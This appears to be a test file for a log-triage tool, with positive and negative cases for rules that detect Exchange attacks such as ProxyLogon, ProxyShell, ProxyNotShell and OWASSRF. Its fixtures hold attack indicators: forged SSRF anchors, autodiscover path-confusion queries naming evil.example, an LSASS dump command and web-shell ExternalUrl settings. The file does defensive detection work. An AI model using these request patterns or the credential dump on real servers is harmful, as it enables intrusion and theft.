/**
 * One positive and one negative case (at least) for every rule, each with the reason it exists.
 * Positives give the level and line expected; negatives are near misses the rule must not report.
 */
import type { Level } from '../../../src/triage/types.ts';
import {
  EXCH,
  OAB_HEADER,
  RANDOM_HASH,
  SSRF_ANCHOR,
  TPL_26855,
  UM_ERROR,
  WEBSHELL_URL,
  type Case,
  type Positive,
  bytesOf,
  dirS,
  ecp,
  ecpLog,
  eventViewerCsv,
  formatList,
  gci,
  getFileHashList,
  getFileHashTable,
  hp,
  hpSsrf,
  httpProxyLog,
  iis,
  iisLog,
  oab,
  pad,
  rps,
  rpsLog,
  sha256sum,
  tpl26855Row,
  wevtutilText,
  winEventCsv,
} from './fixtures.ts';

const lineOf = (text: string, at: string) => {
  const i = text.indexOf(at);
  if (i < 0) throw new Error(`fixture marker not found: ${at}`);
  return text.slice(0, i).split('\n').length;
};
const pos = (rule: string, reason: string, file: string, text: string, level: Level, at: string): Positive => ({
  rule,
  reason,
  file,
  text,
  level,
  line: lineOf(text, at),
});
const neg = (rule: string, reason: string, file: string, text: string | Uint8Array): Case => ({
  rule,
  reason,
  file,
  text,
});

const HP = 'HttpProxy_2021030302-1.LOG';
const IIS = 'u_ex210303.log';
const ECP = 'ECPServer20210303-1.LOG';
const OAB = 'OABGenerator20210303-1.LOG';
const GREP = 'grep-results.txt'; // findstr/grep output: "file:line" prefixes keep it unrecognised
const grep = (line: string) => `u_ex210820.log:${line}\r\n`;
const BAD_UA = 'DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)';
const IIS_SSRF_QUERY = '&CorrelationID=<empty>;&cafeReqId=2c1d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f;';
const MGMT = (message: string) =>
  winEventCsv([
    { message, id: '1', provider: 'MSExchange CmdletLogs', time: '3/3/2021 4:10:00 AM', level: 'Information' },
  ]);
const CONTENT = 'suspect.aspx';
const PST = (body: string) => {
  const head = [0x21, 0x42, 0x44, 0x4e, 0x00, 0x01, 0x00, 0x00, 0x53, 0x4d, 0x0a, 0x00, 0x00, 0x0d];
  const tail = bytesOf(body);
  const out = new Uint8Array(head.length + tail.length + 64);
  out.set(head);
  out.set(tail, head.length + 32);
  return out;
};
const DER = (body: string, size = 2000) => {
  const out = new Uint8Array(size);
  out.set([0x30, 0x82, 0x04, 0x10, 0x00, 0x00]);
  out.set(bytesOf(body), 40);
  return out;
};
const listing = (path: string) => `C:\\Windows\\win.ini\r\n${path}\r\nC:\\Windows\\system.ini\r\n`;
const owaAuth = `${EXCH}\\FrontEnd\\HttpProxy\\owa\\auth`;
const ecpAuth = `${EXCH}\\FrontEnd\\HttpProxy\\ecp\\auth`;
const CONFIG = (physical: string) =>
  [
    '<configuration>',
    '  <configSections>',
    '    <sectionGroup name="system.webServer">',
    '    </sectionGroup>',
    '  </configSections>',
    '  <system.applicationHost>',
    '    <sites>',
    '      <site name="Default Web Site" id="1">',
    `        <application path="/x"><virtualDirectory path="/" physicalPath="${physical}" /></application>`,
    '      </site>',
    '    </sites>',
    '  </system.applicationHost>',
    '</configuration>',
  ].join('\r\n');

export const POSITIVES: Positive[] = [];
export const NEGATIVES: Case[] = [];
const P = (...c: Parameters<typeof pos>) => POSITIVES.push(pos(...c));
const N = (...c: Parameters<typeof neg>) => NEGATIVES.push(neg(...c));

// ---------------------------------------------------------------- ProxyLogon, HttpProxy
{
  const t = httpProxyLog([hp(), hpSsrf('200'), hp()]);
  P('tpl-cve-2021-26855', 'forged ServerInfo~ anchor answered 200', HP, t, 'compromise', 'ServerInfo~');
  const t2 = httpProxyLog([hp(), hpSsrf('500')]);
  P('tpl-cve-2021-26855', 'the same request refused: an attempt', HP, t2, 'attempt', 'ServerInfo~');
  N(
    'tpl-cve-2021-26855',
    'Test-ProxyLogon excludes ServerInfo~localhost',
    HP,
    httpProxyLog([hp({ AnchorMailbox: 'ServerInfo~localhost/ews/exchange.asmx' })]),
  );
  N(
    'tpl-cve-2021-26855',
    'an ordinary Sid~ anchor',
    HP,
    httpProxyLog([hp(), hp({ Protocol: 'Ecp', UrlStem: '/ecp/y.js' })]),
  );
  const auto = httpProxyLog([
    hp({ AnchorMailbox: 'ServerInfo~a]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#~1' }),
  ]);
  P('tpl-cve-2021-26855-autodiscover', 'autodiscover-only forgery', HP, auto, 'attempt', 'ServerInfo~');
  N('tpl-cve-2021-26855', 'autodiscover-only forgery is not the main rule', HP, auto);
  N('tpl-cve-2021-26855-autodiscover', 'a non-autodiscover forgery', HP, t);
  const reset = httpProxyLog([
    hpSsrf('200', {
      AnchorMailbox:
        'ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#',
    }),
  ]);
  P(
    'tpl-cve-2021-27065-resetvdir',
    'ResetOABVirtualDirectory through a forged anchor, 200',
    HP,
    reset,
    'compromise',
    'ServerInfo~',
  );
  N(
    'tpl-cve-2021-27065-resetvdir',
    'the reset refused with 500',
    HP,
    httpProxyLog([
      hpSsrf('500', {
        AnchorMailbox:
          'ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#',
      }),
    ]),
  );
  const cookie = httpProxyLog([
    hp({ BackEndCookie: 'Server~a]@EX01.contoso.local:444/ecp/proxyLogon.ecp~1941962753', HttpStatus: '200' }),
  ]);
  P('msblog-backendcookie', 'BackEndCookie naming a back-end path', HP, cookie, 'compromise', 'Server~a]');
  N(
    'msblog-backendcookie',
    'an ordinary BackEndCookie without a path',
    HP,
    httpProxyLog([hp({ BackEndCookie: 'Server~EX01.contoso.local~1941962753' })]),
  );
  const sb = `${grep('2021-03-03 02:13:41 POST /ecp/y.js X-BEResource=ServerInfo~a]@EX01:444/ecp/target#~1 200')}`;
  P(
    'sigbase-hafnium-serverinfo-path',
    'ServerInfo~ next to /ecp/y.js in a grep result',
    GREP,
    sb,
    'attempt',
    'ServerInfo~',
  );
  N(
    'sigbase-hafnium-serverinfo-path',
    'ServerInfo~ with an ordinary path',
    GREP,
    grep('2021-03-03 POST /owa/service.svc ServerInfo~a]@EX01:444/owa/x#~1 200'),
  );
}

// ---------------------------------------------------------------- ProxyLogon, IIS
{
  const themes = iisLog([
    iis(),
    iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/auth/Current/themes/resources/logon.css' }),
  ]);
  P(
    'sigma-hafnium-post-static',
    'POST to a static OWA file answered 200',
    IIS,
    themes,
    'compromise',
    'POST /owa/auth/Current',
  );
  N(
    'sigma-hafnium-post-static',
    'GET of the same file',
    IIS,
    iisLog([iis({ 'cs-uri-stem': '/owa/auth/Current/themes/resources/logon.css' })]),
  );
  const bot = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/owa/auth/Current/themes/resources/lgnbotl.gif',
      'cs(User-Agent)': BAD_UA,
      'sc-status': '404',
    }),
  ]);
  P('sigma-hafnium-bot-ua', 'crawler user agent posting to /owa/auth/Current, refused', IIS, bot, 'attempt', 'POST');
  N(
    'sigma-hafnium-bot-ua',
    'the same user agent with GET',
    IIS,
    iisLog([iis({ 'cs-uri-stem': '/owa/auth/Current/themes/resources/lgnbotl.gif', 'cs(User-Agent)': BAD_UA })]),
  );
  const tool = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/ecp/DDI/DDIService.svc/GetList',
      'cs(User-Agent)': 'python-requests/2.25.1',
    }),
  ]);
  P('sigma-hafnium-tool-ua', 'exploit script user agent posting to /ecp/', IIS, tool, 'compromise', 'POST');
  N(
    'sigma-hafnium-tool-ua',
    'a newer python-requests',
    IIS,
    iisLog([
      iis({
        'cs-method': 'POST',
        'cs-uri-stem': '/ecp/DDI/DDIService.svc/GetList',
        'cs(User-Agent)': 'python-requests/2.31.0',
      }),
    ]),
  );
  const ant = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/owa/auth/errorEE.aspx',
      'cs(User-Agent)': 'antSword/v2.1',
      'sc-status': '404',
    }),
  ]);
  P('sigma-hafnium-webshell-ua', 'antSword posting to /owa/', IIS, ant, 'attempt', 'POST');
  N(
    'sigma-hafnium-webshell-ua',
    'antSword with GET',
    IIS,
    iisLog([iis({ 'cs-uri-stem': '/owa/auth/errorEE.aspx', 'cs(User-Agent)': 'antSword/v2.1' })]),
  );
  const yjs = iisLog([iis({ 'cs-method': 'POST', 'cs-uri-stem': '/ecp/y.js', 'cs-uri-query': IIS_SSRF_QUERY })]);
  P('sigma-hafnium-ecp-js', 'POST to /ecp/y.js answered 200', IIS, yjs, 'compromise', 'POST /ecp/y.js');
  N('sigma-hafnium-ecp-js', 'GET of /ecp/y.js', IIS, iisLog([iis({ 'cs-uri-stem': '/ecp/y.js', 'sc-status': '404' })]));
  const sent = iisLog([iis({ 'cs-uri-stem': '/owa/auth/x.js', 'c-ip': '203.0.113.9', 'sc-status': '404' })]);
  P('sentinel-proxylogon-uri', 'made-up script name from an outside address', IIS, sent, 'attempt', '/owa/auth/x.js');
  N(
    'sentinel-proxylogon-uri',
    'the same from a private address',
    IIS,
    iisLog([iis({ 'cs-uri-stem': '/owa/auth/x.js', 'c-ip': '10.1.2.3', 'sc-status': '404' })]),
  );
  N(
    'sentinel-proxylogon-uri',
    'a real versioned OWA script',
    IIS,
    iisLog([iis({ 'cs-uri-stem': '/owa/auth/15.1.2176/scripts/premium/owa.js', 'c-ip': '203.0.113.9' })]),
  );
  const resetIis = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/ecp/DDI/DDIService.svc/SetObject',
      'cs-uri-query': 'schema=ResetOABVirtualDirectory&msExchEcpCanary=Zm9v',
      's-port': '444',
      'cs-username': 'CONTOSO\\EX01$',
    }),
  ]);
  P(
    'sigma-reset-vdir',
    'machine account resets the OAB virtual directory on the back end',
    IIS,
    resetIis,
    'compromise',
    'POST /ecp/DDI',
  );
  N(
    'sigma-reset-vdir',
    'an administrator (no machine account) doing the same',
    IIS,
    iisLog([
      iis({
        'cs-method': 'POST',
        'cs-uri-stem': '/ecp/DDI/DDIService.svc/SetObject',
        'cs-uri-query': 'schema=ResetOABVirtualDirectory',
        'cs-username': 'CONTOSO\\admin',
      }),
    ]),
  );
  const rpc = iisLog([
    iis({
      'cs-uri-stem': '/rpc/',
      'cs-uri-query': '&CorrelationID=<empty>;&RequestId=2c1d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f&cafeReqId=abc;',
      'c-ip': '203.0.113.9',
    }),
  ]);
  P('sigbase-hafnium-rpc', 'GET /rpc/ with correlation fields, answered 200', IIS, rpc, 'suspicious', 'GET /rpc/');
  N(
    'sigbase-hafnium-rpc',
    'the same answered 404',
    IIS,
    iisLog([
      iis({
        'cs-uri-stem': '/rpc/',
        'cs-uri-query': '&CorrelationID=<empty>;&RequestId=2c1d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f&cafeReqId=abc;',
        'sc-status': '404',
      }),
    ]),
  );
  const ip = iisLog([iis({ 'c-ip': '5.254.43.18' })]);
  P('chirp-volexity-ip', 'a listed address', IIS, ip, 'suspicious', '5.254.43.18');
  N('chirp-volexity-ip', 'an address that only contains a listed one', IIS, iisLog([iis({ 'c-ip': '15.254.43.180' })]));
}

// ---------------------------------------------------------------- ProxyLogon, ECP / OAB / events
{
  const shell = ecpLog([
    ecp('Get-OabVirtualDirectory'),
    ecp(`Set-OabVirtualDirectory.ExternalUrl='${WEBSHELL_URL}'.Identity='OAB (Default Web Site)'`),
  ]);
  P(
    'tpl-cve-2021-27065',
    'script in ExternalUrl, ECP server log',
    ECP,
    shell,
    'compromise',
    'Set-OabVirtualDirectory.ExternalUrl',
  );
  const plain = ecpLog([
    ecp("Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.example/OAB'.Identity='OAB (Default Web Site)'"),
  ]);
  N('tpl-cve-2021-27065', 'a plain URL', ECP, plain);
  const trimmed = `S:CMD=Set-OabVirtualDirectory.ExternalUrl='${WEBSHELL_URL}'\r\n`;
  P('ecp-vdir-script-loose', 'trimmed copy without the trailing schema', GREP, trimmed, 'compromise', 'S:CMD');
  N(
    'ecp-vdir-script-loose',
    'a plain URL',
    GREP,
    "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.example/owa'\r\n",
  );
  N('ecp-vdir-script-loose', 'superseded when the full pattern matches', ECP, shell);
  P(
    'sigbase-ecp-set-oab-externalurl',
    'OAB ExternalUrl changed to a plain URL',
    ECP,
    plain,
    'suspicious',
    'Set-OabVirtualDirectory',
  );
  N('sigbase-ecp-set-oab-externalurl', 'reading the OAB directory', ECP, ecpLog([ecp('Get-OabVirtualDirectory')]));
  const setEcp = ecpLog([ecp("Set-EcpVirtualDirectory.InternalUrl='https://ex01.contoso.local/ecp'")]);
  P('msblog-set-vdir', 'another virtual directory changed', ECP, setEcp, 'suspicious', 'Set-EcpVirtualDirectory');
  N('msblog-set-vdir', 'only read', ECP, ecpLog([ecp('Get-EcpVirtualDirectory')]));
  const oabOut = [
    ...OAB_HEADER,
    oab("Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed."),
  ].join('\r\n');
  P('tpl-cve-2021-26858', 'OAB download written to aspnet_client', OAB, oabOut, 'compromise', 'Download failed');
  const oabIn = [
    ...OAB_HEADER,
    oab(`Download failed and temporary file '${EXCH}\\ClientAccess\\OAB\\Temp\\a1b2.tmp' needs to be removed.`),
  ].join('\r\n');
  N('tpl-cve-2021-26858', 'a download inside ClientAccess\\OAB', OAB, oabIn);
  N('msblog-cve-2021-26858', 'a readable path inside ClientAccess\\OAB is normal', OAB, oabIn);
  const oabCut = [...OAB_HEADER, oab('Download failed and temporary file')].join('\r\n');
  P('msblog-cve-2021-26858', 'the message without a readable path', OAB, oabCut, 'suspicious', 'Download failed');
  const um = eventViewerCsv([
    {
      level: 'Information',
      time: '3/3/2021 1:00:00 AM',
      source: 'MSExchange ADAccess',
      id: '2080',
      message: 'Process w3wp.exe: topology ok',
    },
    {
      level: 'Error',
      time: '3/3/2021 1:23:45 AM',
      source: 'MSExchange Unified Messaging',
      id: '1234',
      message: UM_ERROR,
    },
  ]);
  P(
    'tpl-cve-2021-26857',
    'UM error with InvalidCastException (message spans lines)',
    'Application.csv',
    um,
    'attempt',
    'Error,3/3',
  );
  const other = eventViewerCsv([
    { level: 'Error', time: '3/3/2021 1:23:45 AM', source: 'Application Error', id: '1000', message: UM_ERROR },
  ]);
  N('tpl-cve-2021-26857', 'the same text from another source', 'Application.csv', other);
  P(
    'chirp-invalidcastexception',
    'InvalidCastException from another source',
    'Application.csv',
    other,
    'suspicious',
    'Error,3/3',
  );
  N('chirp-invalidcastexception', 'superseded by the Unified Messaging rule', 'Application.csv', um);
  N(
    'chirp-invalidcastexception',
    'no exception',
    'Application.csv',
    eventViewerCsv([
      {
        level: 'Error',
        time: '3/3/2021 1:23:45 AM',
        source: 'Application Error',
        id: '1000',
        message: 'Faulting application w3wp.exe',
      },
    ]),
  );
  const mgmt = MGMT(
    `Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "${WEBSHELL_URL}" -Identity "OAB (Default Web Site)".`,
  );
  P(
    'sigma-oab-vdir-script',
    'management log: ExternalUrl set to a web shell',
    'MSExchangeManagement.csv',
    mgmt,
    'compromise',
    'Cmdlet succeeded',
  );
  N(
    'sigma-oab-vdir-script',
    'a plain URL',
    'MSExchangeManagement.csv',
    MGMT(
      'Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "https://mail.contoso.example/OAB".',
    ),
  );
  const setOab = `Set-OabVirtualDirectory -Identity "OAB" -ExternalUrl:"http://f/<script>function Page_Load(){}</script>"\r\n`;
  P(
    'sigma-set-oab-externalurl-script',
    'Set-OabVirtualDirectory with a Page_Load script',
    GREP,
    setOab,
    'compromise',
    'Set-Oab',
  );
  N(
    'sigma-set-oab-externalurl-script',
    'no script',
    GREP,
    'Set-OabVirtualDirectory -Identity "OAB" -ExternalUrl https://mail.contoso.example/OAB\r\n',
  );
  const lsass = `${grep('procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp')}`;
  P('chirp-hafnium-post-exploitation', 'LSASS dumped to Windows\\Temp', GREP, lsass, 'compromise', 'procdump');
  N(
    'chirp-hafnium-post-exploitation',
    'another process dumped',
    GREP,
    grep('procdump64.exe -ma notepad.exe C:\\windows\\temp\\notepad.dmp'),
  );
  const lsassList = listing('C:\\ProgramData\\it.zip');
  P(
    'chirp-hafnium-post-exploitation',
    'the archive name Microsoft published, in a listing',
    'dir.txt',
    lsassList,
    'compromise',
    'it.zip',
  );
}

// ---------------------------------------------------------------- ProxyShell
{
  const q = '@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example';
  const refused = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/autodiscover/autodiscover.json',
      'cs-uri-query': q,
      'c-ip': '203.0.113.9',
      'sc-status': '401',
    }),
  ]);
  P(
    'sigma-proxyshell-attempt',
    'autodiscover.json path confusion refused with 401',
    IIS,
    refused,
    'attempt',
    'autodiscover.json',
  );
  const ok = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/autodiscover/autodiscover.json',
      'cs-uri-query': q,
      'c-ip': '203.0.113.9',
    }),
  ]);
  N('sigma-proxyshell-attempt', 'the same answered 200 is not an attempt', IIS, ok);
  P(
    'sigma-proxyshell-success',
    'autodiscover.json path confusion answered 200',
    IIS,
    ok,
    'compromise',
    'autodiscover.json',
  );
  N('sigma-proxyshell-success', 'refused with 401', IIS, refused);
  N(
    'sigma-proxyshell-success',
    'modern Outlook autodiscover.json without a back-end path',
    IIS,
    iisLog([
      iis({
        'cs-uri-stem': '/autodiscover/autodiscover.json/v1.0/alice@contoso.example',
        'cs-uri-query': 'Protocol=Autodiscoverv1',
      }),
    ]),
  );
  const failed = grep(
    `2021-08-20 10:00:00 10.0.0.5 POST /autodiscover/autodiscover.json ${q} 443 - 203.0.113.9 python-requests/2.26.0 - 401 0 0 15`,
  );
  P('sigbase-proxyshell-failed', 'IIS line pattern, 401 0 0', GREP, failed, 'attempt', 'POST');
  N(
    'sigbase-proxyshell-failed',
    'answered 200',
    GREP,
    grep(
      `2021-08-20 10:00:00 10.0.0.5 POST /autodiscover/autodiscover.json ${q} 443 - 203.0.113.9 python - 200 0 0 15`,
    ),
  );
  const rpsCat = grep(
    '2021-08-20 10:00:00 10.0.0.5 GET /autodiscover/autodiscover.json @evil.example/powershell/?X-Rps-CAT=VgEAVAdX&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 203.0.113.9 - - 200 0 0 15',
  );
  P(
    'sigbase-proxyshell-success',
    'IIS line pattern reaching /powershell with X-Rps-CAT',
    GREP,
    rpsCat,
    'attempt',
    'GET',
  );
  N(
    'sigbase-proxyshell-success',
    'autodiscover.json without a back-end path',
    GREP,
    grep(
      '2021-08-20 10:00:00 10.0.0.5 GET /autodiscover/autodiscover.json Email=alice%40contoso.example 443 - 10.0.0.9 - - 200 0 0 15',
    ),
  );
  const exp = MGMT(
    'Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "alice@contoso.example" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx" -IncludeFolders "#Drafts#".',
  );
  P(
    'sigma-mailbox-export-aspx',
    'mailbox exported to an .aspx file',
    'MSExchangeManagement.csv',
    exp,
    'compromise',
    'Cmdlet succeeded',
  );
  N(
    'sigma-mailbox-export-aspx',
    'an export to a local PST',
    'MSExchangeManagement.csv',
    MGMT(
      'Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "alice" -FilePath "D:\\PST\\alice.pst".',
    ),
  );
  const role = MGMT(
    'Cmdlet succeeded. Cmdlet New-ManagementRoleAssignment, parameters -Role "Mailbox Import Export" -User "CONTOSO\\svc-x".',
  );
  P(
    'sigma-mailbox-export-role',
    'the export role granted',
    'MSExchangeManagement.csv',
    role,
    'suspicious',
    'Cmdlet succeeded',
  );
  N(
    'sigma-mailbox-export-role',
    'another role',
    'MSExchangeManagement.csv',
    MGMT(
      'Cmdlet succeeded. Cmdlet New-ManagementRoleAssignment, parameters -Role "Mail Recipients" -User "CONTOSO\\bob".',
    ),
  );
  const cert = MGMT(
    'Cmdlet succeeded. Cmdlet New-ExchangeCertificate, parameters -GenerateRequest -BinaryEncoded -RequestFile "C:\\inetpub\\wwwroot\\aspnet_client\\y.aspx" -SubjectName "CN=x".',
  );
  P(
    'sigma-cert-request-aspx',
    'certificate request written as a page',
    'MSExchangeManagement.csv',
    cert,
    'compromise',
    'Cmdlet succeeded',
  );
  N(
    'sigma-cert-request-aspx',
    'a request file in a certificate folder',
    'MSExchangeManagement.csv',
    MGMT(
      'Cmdlet succeeded. Cmdlet New-ExchangeCertificate, parameters -GenerateRequest -BinaryEncoded -RequestFile "D:\\certs\\mail.req".',
    ),
  );
  const rm = MGMT(
    'Cmdlet succeeded. Cmdlet Remove-MailboxExportRequest, parameters -Identity "alice\\MailboxExport" -Confirm "False".',
  );
  P(
    'sigma-remove-mailbox-export',
    'export removed without confirmation',
    'MSExchangeManagement.csv',
    rm,
    'suspicious',
    'Cmdlet succeeded',
  );
  N(
    'sigma-remove-mailbox-export',
    'removed with confirmation',
    'MSExchangeManagement.csv',
    MGMT(
      'Cmdlet succeeded. Cmdlet Remove-MailboxExportRequest, parameters -Identity "alice\\MailboxExport" -Confirm "True".',
    ),
  );
  const prog = listing('C:\\ProgramData\\COM1\\frontend\\x.aspx');
  P('path-proxyshell-programdata-aspx', 'page in a ProgramData\\COM1 folder', 'dir.txt', prog, 'compromise', 'COM1');
  N(
    'path-proxyshell-programdata-aspx',
    'page elsewhere in ProgramData',
    'dir.txt',
    listing('C:\\ProgramData\\Vendor\\help.aspx'),
  );
  P(
    'path-proxyshell-all-users',
    'ZING folder under All Users',
    'dir.txt',
    listing('C:\\Users\\All Users\\ZING\\a.txt'),
    'suspicious',
    'ZING',
  );
  N(
    'path-proxyshell-all-users',
    'an ordinary All Users folder',
    'dir.txt',
    listing('C:\\Users\\All Users\\Microsoft\\a.txt'),
  );
}

// ---------------------------------------------------------------- ProxyNotShell, OWASSRF
{
  const notShell = grep(
    '2022-10-01 10:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.example/PowerShell/?&Email=autodiscover/autodiscover.json%3F@evil.example 443 CONTOSO\\bob 203.0.113.9 python - 200 0 0 15',
  );
  P('sigbase-proxynotshell', 'autodiscover.json to PowerShell answered 200', GREP, notShell, 'compromise', 'POST');
  N(
    'sigbase-proxynotshell',
    'answered 404',
    GREP,
    grep(
      '2022-10-01 10:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.example/PowerShell/ 443 - 203.0.113.9 python - 404 0 0 15',
    ),
  );
  const notShell401 = grep(
    '2022-10-01 10:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.example/PowerShell/ 443 - 203.0.113.9 python - 401 1 2148074254 15',
  );
  P('sigbase-proxynotshell', 'answered 401: an attempt', GREP, notShell401, 'attempt', 'POST');
  const nessus = grep(
    '2022-10-01 10:00:00 10.0.0.5 GET /owa/ &Email=autodiscover/autodiscover.json%3F@test.com&ClientId=x 443 - 203.0.113.77 - - 302 0 0 5',
  );
  P('sigbase-nessus-proxynotshell-probe', 'the scanner’s test request', GREP, nessus, 'info', 'GET');
  N(
    'sigbase-nessus-proxynotshell-probe',
    'another address',
    GREP,
    grep(
      '2022-10-01 10:00:00 10.0.0.5 GET /owa/ &Email=autodiscover/autodiscover.json%3F@evil.example&ClientId=x 443 - 203.0.113.77 - - 302 0 0 5',
    ),
  );
  const poc = grep(
    '2022-11-17 10:00:00 10.0.0.5 POST /autodiscover/admin@localhost/&Email=autodiscover/autodiscover.json%3f@evil.example 443 - 203.0.113.9 python - 200 0 0 5',
  );
  P('sigbase-proxynotshell-poc', 'public exploit marker answered 200', GREP, poc, 'compromise', 'POST');
  N(
    'sigbase-proxynotshell-poc',
    'answered 404',
    GREP,
    grep('2022-11-17 10:00:00 10.0.0.5 POST /autodiscover/admin@localhost/ 443 - 203.0.113.9 python - 404 0 0 5'),
  );
  const owassrf = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/owa/mastermailbox@outlook.com/powershell',
      'cs-uri-query': 'clientVersion=15.1',
      'c-ip': '203.0.113.50',
      'cs(User-Agent)': 'python-requests/2.28.1',
    }),
  ]);
  P('sigma-owassrf', 'OWA address leading to /powershell, 200', IIS, owassrf, 'compromise', 'POST /owa/');
  N('sigma-owassrf', 'ordinary OWA', IIS, iisLog([iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/service.svc' })]));
  N(
    'sigma-owassrf',
    'Exchange’s own probe client',
    IIS,
    iisLog([
      iis({
        'cs-method': 'POST',
        'cs-uri-stem': '/owa/x@contoso.example/powershell',
        'cs(User-Agent)': 'Exchange BackEnd Probes',
      }),
    ]),
  );
  const pocUa =
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36';
  const owaPoc = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/owa/mastermailbox%40outlook.com/powershell',
      'cs(User-Agent)': pocUa,
      'c-ip': '203.0.113.50',
    }),
  ]);
  P('sigma-owassrf-poc', 'public exploit user agent, 200', IIS, owaPoc, 'compromise', 'POST /owa/');
  N('sigma-owassrf-poc', 'another user agent', IIS, owassrf);
  const sbOwa = grep(
    '2022-12-20 10:00:00 10.0.0.5 POST /owa/bob@example.com/powershell clientVersion=15.1 443 - 203.0.113.50 python - 200 0 0 9',
  );
  P('sigbase-owassrf', 'mailbox address to /powershell answered 200', GREP, sbOwa, 'compromise', 'POST');
  N(
    'sigbase-owassrf',
    'Exchange’s own client',
    GREP,
    grep(
      '2022-12-20 10:00:00 10.0.0.5 POST /owa/bob@example.com/powershell clientVersion=15.1 443 - 10.0.0.9 Microsoft+WinRM+Client Microsoft WinRM Client - 200 0 0 9',
    ),
  );
  const proxyPs = httpProxyLog(
    [
      hp({
        Protocol: 'PowerShell',
        UrlStem: '/Powershell',
        AuthenticationType: 'Kerberos',
        IsAuthenticated: 'true',
        HttpStatus: '200',
        BackEndStatus: '0',
        ErrorCode: '',
        Method: '',
        ProxyAction: '',
        TargetServer: '',
        TargetServerVersion: '',
        RoutingType: '',
        RoutingHint: '',
        UserAgent: 'python-requests/2.28.1',
        GenericInfo:
          ';OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;',
      }),
    ],
    'fields',
  );
  P(
    'sigbase-notshell-proxy-log',
    'HttpProxy PowerShell line with the exact field pattern',
    HP,
    proxyPs,
    'compromise',
    '/Powershell',
  );
  N(
    'sigbase-notshell-proxy-log',
    'the same from Exchange’s own client',
    HP,
    proxyPs.replace('python-requests/2.28.1', 'Microsoft WinRM Client'),
  );
  const rpsBad = rpsLog([
    rps({}),
    rps({ ClientInfo: 'python-requests/2.28.1', ClientIpAddress: '203.0.113.50 10.0.0.5', HttpStatus: '200' }),
  ]);
  P(
    'crowdstrike-rps-clientinfo',
    'attacker user agent in ClientInfo, 200',
    'Rps_Http_2022122010-1.LOG',
    rpsBad,
    'compromise',
    'python-requests',
  );
  const rpsFail = rpsLog([rps({ ClientInfo: 'python-requests/2.28.1', HttpStatus: '500' })]);
  P(
    'crowdstrike-rps-clientinfo',
    'the same refused',
    'Rps_Http_2022122010-1.LOG',
    rpsFail,
    'attempt',
    'python-requests',
  );
  N(
    'crowdstrike-rps-clientinfo',
    'Exchange’s own clients and empty ClientInfo',
    'Rps_Http_2022122010-1.LOG',
    rpsLog([rps({}), rps({ ClientInfo: 'Exchange BackEnd Probes' }), rps({ ClientInfo: '' })]),
  );
}

// ---------------------------------------------------------------- other exploits, web shells in use
{
  const token = iisLog([
    iis({
      'cs-method': 'POST',
      'cs-uri-stem': '/ecp/bob@contoso.example/RulesEditor/InboxRules.svc/NewObject',
      'cs-uri-query': 'SecurityToken=1',
      'sc-status': '500',
    }),
  ]);
  P('sigma-proxytoken', 'ProxyToken request answered 500', IIS, token, 'attempt', 'POST /ecp/');
  N(
    'sigma-proxytoken',
    'answered 200',
    IIS,
    iisLog([
      iis({ 'cs-method': 'POST', 'cs-uri-stem': '/ecp/RulesEditor/InboxRules.svc/NewObject', 'sc-status': '200' }),
    ]),
  );
  const cal = iisLog([
    iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/calendar/a1b2c3@contoso.example/x/calendar.html' }),
  ]);
  P('sigma-cve-2021-28480', 'POST to /owa/calendar/a…', IIS, cal, 'attempt', 'POST /owa/calendar');
  N(
    'sigma-cve-2021-28480',
    'answered 503',
    IIS,
    iisLog([
      iis({
        'cs-method': 'POST',
        'cs-uri-stem': '/owa/calendar/a1b2c3@contoso.example/x/calendar.html',
        'sc-status': '503',
      }),
    ]),
  );
  const drop = iisLog([
    iis({ 'cs-method': 'POST', 'cs-uri-stem': '/aspnet_client/system_web/error.aspx', 'c-ip': '203.0.113.9' }),
  ]);
  P(
    'webshell-post-drop-path',
    'POST to a page in aspnet_client answered 200',
    IIS,
    drop,
    'compromise',
    'POST /aspnet_client',
  );
  const gone = iisLog([
    iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/auth/Current/shell.aspx', 'sc-status': '404' }),
  ]);
  P('webshell-post-drop-path', 'the page was not there: an attempt', IIS, gone, 'attempt', 'POST /owa/auth');
  N(
    'webshell-post-drop-path',
    'the standard OWA logon page',
    IIS,
